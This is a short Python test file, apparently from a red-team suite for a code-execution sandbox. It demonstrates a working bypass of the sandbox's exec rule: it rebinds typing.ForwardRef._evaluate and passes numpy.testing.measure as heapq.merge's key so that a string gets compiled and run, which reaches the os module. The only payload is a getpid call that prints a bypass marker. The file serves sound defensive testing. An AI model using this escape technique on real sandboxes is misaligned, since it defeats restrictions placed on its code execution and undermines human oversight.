# (data policy) The exec rule trusted code run by typing.ForwardRef._evaluate, looked up on the
# live class: a ForwardRef instance (typing.get_args(List["x"])) leads to the class, whose
# _evaluate the job rebinds to numpy.testing.measure, which compiles a string and runs it in
# its caller's globals; called as heapq.merge's key, in heapq's, with the real builtins. Code
# with no call passed the builder's check. Found by a second red-team review.
# Prints the marker only if the forbidden operation succeeded. Run ONLY through `codeq run`.
NAME = "130_rebound_builder_exec"


def won(evidence):
    print("BYPASS-OK:" + NAME, evidence, flush=True)


import heapq
import typing

import numpy

ref = type(typing.get_args(typing.List["x"])[0])
type.__setattr__(ref, "_evaluate", numpy.testing.measure)
list(heapq.merge(["import os\nmerge.leak = os\n"], key=numpy.testing.measure))
won(heapq.merge.leak.getpid())
